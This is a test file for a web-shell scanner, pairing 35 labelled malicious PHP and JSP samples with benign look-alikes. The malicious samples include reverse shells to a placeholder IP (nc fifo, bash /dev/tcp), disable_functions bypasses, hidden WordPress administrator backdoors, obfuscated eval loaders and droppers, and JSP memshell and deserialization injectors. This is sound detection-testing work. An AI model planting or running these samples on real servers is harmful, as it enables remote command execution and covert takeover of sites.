import { describe, it } from 'node:test';
import assert from 'node:assert/strict';
import { createScanner } from './scanner.js';

// The misses of session 26's held-out sets M and N, looked at after their one scan (the figures in
// docs/scan.md are that scan's), each technique written again by us: the sets stay outside the
// project. Beside each, code of the same shape that is not a shell.
const scanner = createScanner({});
const scan = (src: string, path = '/www/x.php') => scanner.scanBuffer(Buffer.from(src, 'latin1'), path);
const b64 = (s: string) => Buffer.from(s, 'latin1').toString('base64');

// [what, the rule that must be among the findings, path, the file]
const MALICIOUS: [string, string, string, string][] = [
  // disable_functions bypasses
  ['LD_PRELOAD put in the environment before mail() starts sendmail', 'mamori_php_ld_preload_mail', '/www/b.php', `<?php
$c = $_GET['c'] ?? 'id';
putenv('RUN_CMD=' . $c . ' > /tmp/o.txt');
putenv('LD_PRELOAD=/tmp/hook.so');
mail('a@example.org', 'x', 'y');
echo file_get_contents('/tmp/o.txt');`],
  ['LD_PRELOAD joined from pieces, error_log as the trigger', 'mamori_php_ld_preload_mail', '/www/b2.php', `<?php
$so = __DIR__ . '/l.so';
putenv("LD_PRELOAD" . "=" . $so);
error_log('x', 1, 'root@localhost');`],
  ['imap_open given a mailbox with an rsh ProxyCommand', 'mamori_php_imap_proxycommand', '/www/i.php', `<?php
$cmd = base64_encode(($_REQUEST['q'] ?? 'id') . ' >/tmp/r');
$box = '{h -oProxyCommand=echo\\t' . $cmd . '|base64\\t-d|sh}:143/imap}INBOX';
@imap_open($box, '', '');
readfile('/tmp/r');`],
  ['the process writes its own memory through /proc/self/mem', 'mamori_php_procfs_mem_write', '/www/p.php', `<?php
$maps = file_get_contents('/proc/self/maps');
$mem = fopen('/proc/self/mem', 'rb+');
fseek($mem, 0x55d1c0a1b2c0);
fwrite($mem, pack('P', 0x7f11deadbeef));
readfile('/bin/sh');`],
  ['a FastCGI client of its own sending PHP_VALUE to php-fpm', 'mamori_php_fpm_ini_inject', '/www/f.php', `<?php
$env = array('GATEWAY_INTERFACE' => 'FastCGI/1.0', 'REQUEST_METHOD' => 'GET', 'SCRIPT_FILENAME' => '/var/www/html/index.php',
  'PHP_VALUE' => "extension=/tmp/x.so\\nauto_prepend_file=php://input", 'PHP_ADMIN_VALUE' => 'allow_url_include = On');
$s = stream_socket_client('tcp://127.0.0.1:9000');
fwrite($s, build_records($env, $_POST['code'] ?? ''));
echo fread($s, 8192);`],
  ['an .htaccess for CGI and a shell script written beside it', 'mamori_php_cgi_htaccess_drop', '/www/c.php', `<?php
file_put_contents('.htaccess', "Options +ExecCGI\\nAddHandler cgi-script .qq\\n");
$sh = "#!/bin/sh\\necho Content-Type: text/plain\\necho\\n" . ($_GET['c'] ?? 'id') . "\\n";
file_put_contents('run.qq', $sh);
chmod('run.qq', 0755);`],
  ['FFI declaring the C library\'s system()', 'mamori_php_ffi_system', '/www/ffi.php', `<?php
$lib = FFI::cdef('int system(const char *command);');
$lib->system($_GET['c'] . ' > /tmp/out');
echo file_get_contents('/tmp/out');`],
  ['a use-after-free exploit finding the engine\'s system handler', 'mamori_php_uaf_exploit', '/www/u.php', `<?php
class Ex {
  function __construct($c) { $funcs = $this->get_basic_funcs(); $zif_system = $this->get_system($funcs); $this->call($zif_system, $c); }
  function get_basic_funcs() { return 0; }
  function get_system($basic_funcs) { return $basic_funcs + 0x10; }
  static function str2ptr($s, $p = 0, $n = 8) { $a = 0; for ($j = $n - 1; $j >= 0; $j--) { $a <<= 8; $a |= ord($s[$p + $j]); } return $a; }
  function call($f, $c) {}
}
new Ex($_GET['c']);`],
  // shells
  ['a named pipe between a shell and netcat, written to proc_open\'s stdin', 'mamori_php_fifo_shell', '/www/n.php', `<?php
$p = proc_open('sh', array(0 => array('pipe', 'r'), 1 => array('pipe', 'w')), $pipes);
fwrite($pipes[0], 'rm -f /tmp/q;mkfifo /tmp/q;cat /tmp/q|/bin/sh -i 2>&1|nc 198.51.100.9 4444 >/tmp/q');
fclose($pipes[0]);`],
  ['an interactive sh -i, no path, wired to a socket', 'mamori_php_reverse_shell', '/www/r.php', `<?php
$s = fsockopen('198.51.100.9', 7001);
$cmd = 'id; sh -i';
$p = proc_open($cmd, array(0 => array('pipe', 'r'), 1 => array('pipe', 'w'), 2 => array('pipe', 'w')), $pipes);
while (!feof($s)) { fwrite($pipes[0], fread($s, 1024)); fwrite($s, fread($pipes[1], 1024)); }`],
  ['the reverse shell\'s command kept as Base64', 'mamori_php_reverse_shell', '/www/r2.php', `<?php
$h = '${b64('198.51.100.9')}'; $sh = '${b64('uname -a; /bin/sh -i')}';
$s = fsockopen(base64_decode($h), 7002);
$p = proc_open(base64_decode($sh), array(0 => array('pipe', 'r'), 1 => array('pipe', 'w')), $pipes);`],
  ['a bash /dev/tcp line decoded and run by a function named in a variable', 'mamori_script_reverse_shell', '/www/h.php', `<?php
function go() { $r = 'exec'; $parts = explode("\\x15", base64_decode(substr('zz${b64("bash -c 'bash -i >& /dev/tcp/198.51.100.9/5757 0>&1'")}', 2))); echo $r($parts[0]); }
go();`],
  ['a hosting account\'s shadow file rewritten with a hash of its own', 'mamori_php_shadow_rewrite', '/www/s.php', `<?php
$u = get_current_user(); $d = $_SERVER['SERVER_NAME'];
$f = '/home/' . $u . '/etc/' . $d . '/shadow';
$hash = crypt('newpass', '$6$salt$');
$out = '';
foreach (explode("\\n", (string) @file_get_contents($f)) as $l) { $n = explode(':', $l)[0]; if ($n) $out .= $n . ':' . $hash . ":19000:::::\\n"; }
@unlink($f); $h = fopen($f, 'ab'); fwrite($h, $out); fclose($h);`],
  // WordPress
  ['an administrator made on init with a name held in a variable', 'mamori:wp-admin-on-hook', '/www/wp-content/mu-plugins/a.php', `<?php
add_action('init', function () {
  $login = 'svc_maint';
  if (!username_exists($login)) { $id = wp_create_user($login, 'Pa55word!', 'svc@example.org'); (new WP_User($id))->set_role('administrator'); }
});`],
  ['an administrator made again on a schedule', 'mamori:wp-admin-on-hook', '/www/wp-content/plugins/f/f.php', `<?php
/* Plugin Name: Site Framework */
function sf_make() { if (!get_user_by('login', 'sfauth')) { $id = wp_create_user('sfauth', 'x!Y2z', 'sf@example.org'); $u = new WP_User($id); $u->set_role('administrator'); } }
register_activation_hook(__FILE__, 'sf_make');
add_action('sf_check', 'sf_make');
if (!wp_next_scheduled('sf_check')) wp_schedule_event(time(), 'hourly', 'sf_check');`],
  ['an administrator made and hidden from the users screen', 'mamori_php_wp_hidden_admin', '/www/wp-content/plugins/m/m.php', `<?php
class M { var $user = 'mirror'; function __construct() { add_action('plugins_loaded', array($this, 'make')); add_action('pre_user_query', array($this, 'hide')); }
  function make() { if (!username_exists($this->user)) { $id = wp_create_user($this->user, 'pw'); $u = new WP_User($id); $u->set_role('administrator'); } }
  function hide($q) { global $wpdb; $q->query_where .= " AND {$wpdb->users}.user_login != 'mirror'"; } }
new M();`],
  ['a plugin appending its code to the theme\'s functions.php', 'mamori_php_wp_theme_functions_write', '/www/wp-content/plugins/b/b.php', `<?php
/* Plugin Name: Basics */
register_activation_hook(__FILE__, 'basics_on');
function basics_on() { $f = fopen(get_template_directory() . '/functions.php', 'a+'); fwrite($f, basics_code()); fclose($f); }
function basics_code() { return "\\nadd_action('wp_head', 'x_y');\\n"; }`],
  ['signed in as admin when the request asks, nothing checked', 'mamori_php_wp_login_as', '/www/wp-content/mu-plugins/l.php', `<?php
add_action('init', function () {
  if (!isset($_GET['go-admin'])) return;
  $u = get_user_by('login', 'admin');
  if ($u) { wp_set_current_user($u->ID); wp_set_auth_cookie($u->ID); wp_safe_redirect(admin_url()); exit; }
});`],
  // loaders and droppers
  ['a one-liner whose superglobal is an XOR of two literals', 'mamori:flow', '/www/o.php', `<?=$_=\${'_'.('{{{'^'<>/')};$_['a']($_['b']);?>`],
  ['the request body as JSON, hex-decoded into a PHP file of the code\'s naming', 'mamori:flow', '/www/up.php', `<?php
$read = 'file_' . 'get_' . 'contents';
$body = json_decode($read('php://input'), true);
$bytes = hex2bin(trim($body['hex'] ?? ''));
$name = __DIR__ . '/f_' . time() . '.php';
$put = 'file_' . 'put_' . 'contents';
echo $put($name, $bytes) !== false ? 'ok' : 'no';`],
  ['a double Base64 script decoded into a variable and run through a rebuild', 'mamori_php_input_to_exec', '/www/fw.php', `<?php
$z = '';
${Array.from(b64(b64('<?php\n// tool\n' + '$k = "x";\n'.repeat(20) + 'if (isset($_REQUEST["c"])) { eval($_REQUEST["c"]); }\n')).match(/.{1,8}/g)!).map((p) => `$z .= '${p}';`).join('\n')}
$fn = 'base64_decode';
$code = $fn($fn($z));
$t = token_get_all($code); $out = '';
foreach ($t as $x) { $out .= is_array($x) ? ($x[0] === T_OPEN_TAG ? '' : $x[1]) : $x; }
eval($out);`],
  ['names picked from a table by numbers, cookies and posts looped, dropped code included and deleted', 'mamori_php_self_deleting_drop', '/www/wp-content/uploads/x.php', `<?php
function tk/* a */($l) { $t = "abcdefghijklmnopqrstuvwxyz_"; $r = ''; foreach ($l as $i) { $r .= $t[$i]; } return $r; }
$n = Array(); $n[] = tk(Array(0, 17, 17, 0, 24, 26, 12, 4, 17, 6, 4)); $n[] = tk(Array(5, 8, 11, 4, 26, 15, 20, 19, 26, 2, 14, 13, 19, 4, 13, 19, 18));
foreach ($n[0]($_COOKIE, $_POST) as $k => $v) {
  $f = './' . md5($k) . '.tmp';
  @$n[1]($f, '<' . '?php @unlink(__FILE__); ' . base64_decode($v));
  @include($f);
}`],
  ['a packed payload decrypted with the file\'s own key and run', 'mamori_php_decrypt_eval', '/www/p.php', `<?php
eval(openssl_decrypt(base64_decode('${b64('0123456789abcdef'.repeat(8))}'), 'AES-256-CBC', base64_decode('${b64('k'.repeat(32))}'), OPENSSL_RAW_DATA, base64_decode('${b64('i'.repeat(16))}')));`],
  ['names full of zero-width characters in a file that reads itself', 'mamori_php_invisible_names', '/www/h.php', `<?php
${Array.from({ length: 10 }, (_x, i) => `$v${'\u200b\u200c\u200d'.repeat(2 + (i % 3))}${i} = ${i};`).map((l) => Buffer.from(l, 'utf8').toString('latin1')).join('\n')}
$lines = file(__FILE__);
foreach ($lines as $l) { /* the names' invisible letters are the payload's bits */ }`],
  ['a destructor running a property the request set through references', 'mamori:magic-method-eval', '/www/d.php', `<?php
class Q { public $c = ''; function __destruct() { return eval(substr($this->c, 0)); } }
$q = new Q();
$a = &$b; $b = $_REQUEST['p'];
$q->c = base64_decode($a);`],
  ['a Windows program decoded, written and run', 'mamori_php_exe_dropper', '/www/e.php', `<?php
$bin = gzinflate(base64_decode($payload ?? ''));
$name = "helper.exe";
$h = fopen($name, 'wb'); fwrite($h, $bin); fclose($h);
$cmd = $name . ' 198.51.100.9 4444';
system($cmd);`],
  ['a file manager: a path the request names opened and read out, folders made', 'mamori:flow', '/www/fb.php', `<?php
if (($_GET['pw'] ?? '') === 'k') {
  if (isset($_GET['f'])) { $f = trim($_GET['f']); $h = fopen($f, 'r'); echo htmlspecialchars(fread($h, 1 << 20)); fclose($h); }
  if (isset($_GET['d'])) { mkdir(trim($_GET['d'])); }
}`],
  // tunnels
  ['what the page is sent, posted on to a server and path the request names (PHP)', 'mamori_web_request_forwarder', '/www/t.php', `<?php
$body = file_get_contents('php://input');
$to = $_POST['Remoteserver'] . $_POST['Endpoint'];
echo file_get_contents($to, false, stream_context_create(array('http' => array('method' => 'POST', 'content' => $body))));`],
  ['the same forwarder as a JSP', 'mamori_web_request_forwarder', '/www/t.jsp', `<%@ page import="java.net.*,java.io.*" %><%
String target = request.getParameter("Remoteserver") + request.getParameter("Endpoint");
HttpURLConnection c = (HttpURLConnection) new URL(target).openConnection();
c.setDoOutput(true);
%>`],
  ['the same forwarder in ASP.NET', 'mamori_web_request_forwarder', '/www/t.aspx', `<%@ Page Language="C#" %><%
string target = Request.Form["Remoteserver"] + Request.Form["Endpoint"];
var w = new System.Net.WebClient();
Response.Write(w.UploadString(target, Request.Form.ToString()));
%>`],
  // JSP
  ['JSP: Runtime and exec named by Base64 decoded with a charset', 'mamori_jsp_reflection_exec', '/www/a.jsp', `<%@ page import="java.lang.reflect.Method,java.util.Base64" %><%
String c = request.getParameter(new String(Base64.getDecoder().decode("${b64('q')}"), "UTF-8"));
Class<?> k = Class.forName(new String(Base64.getDecoder().decode("${b64('java.lang.Runtime')}"), "UTF-8"));
Method g = k.getMethod(new String(Base64.getDecoder().decode("${b64('getRuntime')}"), "UTF-8"));
Method e = k.getMethod(new String(Base64.getDecoder().decode("${b64('exec')}"), "UTF-8"), String.class);
e.invoke(g.invoke(null), c);
%>`],
  ['JSP: XMLDecoder building a ProcessBuilder around request text', 'mamori_jsp_xmldecoder_process', '/www/x.jsp', `<%@ page import="java.beans.XMLDecoder,java.io.*" %><%
String q = request.getParameter("q");
String x = "<java><object class=\\"java.lang.ProcessBuilder\\"><array class=\\"java.lang.String\\" length=\\"3\\"><void index=\\"0\\"><string>sh</string></void><void index=\\"1\\"><string>-c</string></void><void index=\\"2\\"><string>" + q + "</string></void></array><void method=\\"start\\"/></object></java>";
new XMLDecoder(new ByteArrayInputStream(x.getBytes())).readObject();
%>`],
  ['JSP: the request\'s data written under its name in the web root', 'mamori_jsp_webroot_writer', '/www/w.jsp', `<%@ page import="java.io.*" %><%
String name = request.getParameter("n");
String path = application.getRealPath("/") + "/" + name;
PrintWriter pw = new PrintWriter(new FileOutputStream(path));
pw.print(request.getParameter("d"));
pw.close();
%>`],
  ['JSP: request bytes deserialized', 'mamori_jsp_request_deserialize', '/www/d.jsp', `<%@ page import="java.io.*,java.util.Base64" %><%
String p = request.getParameter("o");
if (p != null) { new ObjectInputStream(new ByteArrayInputStream(Base64.getDecoder().decode(p))).readObject(); }
%>`],
  ['JSP: a filter class written with ASM calling Runtime.exec, registered in the context', 'mamori_jsp_memshell_injector', '/www/m.jsp', `<%@ page import="org.objectweb.asm.*,org.apache.catalina.core.StandardContext,org.apache.tomcat.util.descriptor.web.FilterDef" %><%
ClassWriter cw = new ClassWriter(ClassWriter.COMPUTE_FRAMES);
MethodVisitor mv = cw.visitMethod(Opcodes.ACC_PUBLIC, "doFilter", "()V", null, null);
mv.visitMethodInsn(Opcodes.INVOKESTATIC, "java/lang/Runtime", "getRuntime", "()Ljava/lang/Runtime;", false);
StandardContext ctx = (StandardContext) request.getServletContext().getAttribute("ctx");
FilterDef def = new FilterDef(); ctx.addFilterDef(def);
%>`],
];

// [what, path, the file]: code of the same shapes that is not a shell
const BENIGN: [string, string, string][] = [
  ['a mail helper that sets an ordinary environment variable', '/www/lib/mail.php', `<?php
putenv('TZ=Europe/Amsterdam');
mail($to, 'Your order', $body, 'From: shop@example.org');`],
  ['an IMAP client opening a mailbox from settings', '/www/lib/imap.php', `<?php
$box = '{' . $cfg['host'] . ':993/imap/ssl}INBOX';
$m = imap_open($box, $cfg['user'], $cfg['pass']);`],
  ['a memory report reading /proc/self/status', '/www/lib/mem.php', `<?php
foreach (file('/proc/self/status') as $l) if (strpos($l, 'VmRSS') === 0) echo $l;`],
  ['a FastCGI status page reading the pool over a socket', '/www/admin/fpm.php', `<?php
$s = stream_socket_client('unix:///run/php/php-fpm.sock');
fwrite($s, fcgi_request(array('SCRIPT_FILENAME' => '/status', 'REQUEST_METHOD' => 'GET')));
echo fread($s, 8192);`],
  ['an installer writing config.php from posted settings', '/www/install.php', `<?php
$cfg = "<?php\\n\\$db = " . var_export($_POST['db'] ?? '', true) . ";\\n";
file_put_contents(__DIR__ . '/config.php', $cfg);`],
  ['a cache writing a rendered page as .html', '/www/lib/cache.php', `<?php
$html = $_POST['html'] ?? '';
file_put_contents(__DIR__ . '/cache/' . md5($html) . '.html', $html);`],
  ['a WordPress plugin adding an editor role on activation', '/www/wp-content/plugins/r/r.php', `<?php
/* Plugin Name: Roles */
register_activation_hook(__FILE__, function () { add_role('reviewer', 'Reviewer', array('read' => true)); });
add_action('init', function () { if (current_user_can('manage_options')) { /* settings */ } });`],
  ['a magic-login plugin that checks a token', '/www/wp-content/plugins/ml/ml.php', `<?php
add_action('init', function () {
  if (!isset($_GET['ml'])) return;
  $uid = get_transient('ml_' . sanitize_key($_GET['ml']));
  if ($uid && hash_equals((string) get_user_meta($uid, 'ml_token', true), $_GET['ml'])) { $u = get_user_by('id', $uid); wp_set_auth_cookie($u->ID); }
});`],
  ['a child-theme generator writing functions.php of a new theme', '/www/wp-content/plugins/ct/ct.php', `<?php
/* Plugin Name: Child Theme Maker */
function ctm_make($slug) { $dir = get_theme_root() . '/' . $slug; wp_mkdir_p($dir); file_put_contents($dir . '/functions.php', "<?php\\n// child theme\\n"); }`],
  ['a download script reading a file with fopen', '/www/dl.php', `<?php
$f = basename($_GET['f'] ?? '');
header('Content-Type: application/octet-stream');
$h = fopen(__DIR__ . '/files/' . $f, 'r'); echo fread($h, 1 << 20);`],
  ['a JSON-RPC endpoint reading the request body through fopen', '/www/rpc.php', `<?php
$in = fopen('php://input', 'r'); $req = json_decode(stream_get_contents($in), true);
echo json_encode(array('id' => $req['id'] ?? null));`],
  ['a template class with __toString rendering a property', '/www/lib/Tpl.php', `<?php
class Tpl { public $body = ''; function __toString() { return htmlspecialchars($this->body); } }
$t = new Tpl(); $t->body = $_GET['q'] ?? ''; echo $t;`],
  ['an API proxy forwarding to a fixed endpoint', '/www/api/proxy.php', `<?php
$body = file_get_contents('php://input');
$ch = curl_init('https://api.example.org/v2/' . rawurlencode($_GET['path'] ?? ''));
curl_setopt($ch, CURLOPT_POSTFIELDS, $body);
echo curl_exec($ch);`],
  ['JSP: a report page writing a CSV under the temp folder', '/www/r.jsp', `<%@ page import="java.io.*" %><%
File f = File.createTempFile("report", ".csv");
PrintWriter pw = new PrintWriter(new FileOutputStream(f));
pw.print(request.getParameter("title"));
pw.close();
%>`],
  ['JSP: a string decoded from Base64 with a charset, printed', '/www/g.jsp', `<%@ page import="java.util.Base64" %><%
out.print(new String(Base64.getDecoder().decode("${b64('hello')}"), "UTF-8") + request.getParameter("n"));
%>`],
];

describe('scan: held-out sets M and N (session 26), their misses, samples of our own', () => {
  for (const [name, rule, path, src] of MALICIOUS) {
    it(`malicious: ${name}`, () => {
      const r = scan(src, path);
      assert.equal(r.verdict, 'malicious', JSON.stringify(r.findings));
      assert.ok(r.findings.some((f) => f.rule === rule), `${rule} not among ${r.findings.map((f) => f.rule).join(', ')}`);
    });
  }
  for (const [name, path, src] of BENIGN) {
    it(`not malicious: ${name}`, () => {
      const r = scan(src, path);
      assert.notEqual(r.verdict, 'malicious', JSON.stringify(r.findings));
    });
  }
  it('ran every case', () => {
    assert.equal(MALICIOUS.length, 35);
    assert.equal(BENIGN.length, 15);
  });
});

describe('scan: held-out set O (session 26), its one PHP miss, as our own sample', () => {
  it('an admin page storing an upload under the client\'s name, nothing checked, is flagged', () => {
    const r = scan(`<?php
add_action('admin_menu', function () { add_submenu_page('tools.php', 'Files', 'Files', 'administrator', 'f', 'f_page'); });
function f_page() {
  if (isset($_POST['go'])) { $name = $_FILES['up']['name']; $to = '' . $name; @move_uploaded_file($_FILES['up']['tmp_name'], $to); echo 'stored: ' . $to; }
  else echo '<form method="post" enctype="multipart/form-data"><input type="file" name="up"><input type="submit" name="go"></form>';
}`, '/www/wp-content/plugins/f/up.php');
    assert.notEqual(r.verdict, 'clean', JSON.stringify(r.findings));
  });
  it('not this finding: an upload stored after its extension is checked (a tiny uploader is suspicious by its own rule)', () => {
    const r = scan(`<?php
if (isset($_FILES['up'])) {
  $ext = strtolower(pathinfo($_FILES['up']['name'], PATHINFO_EXTENSION));
  if (in_array($ext, array('jpg', 'png'), true)) move_uploaded_file($_FILES['up']['tmp_name'], __DIR__ . '/img/' . bin2hex(random_bytes(8)) . '.' . $ext);
}`, '/www/up.php');
    assert.notEqual(r.verdict, 'malicious', JSON.stringify(r.findings));
    assert.ok(!r.findings.some((f) => f.rule === 'mamori:flow' && f.technique === 'uploader'), JSON.stringify(r.findings));
  });
});
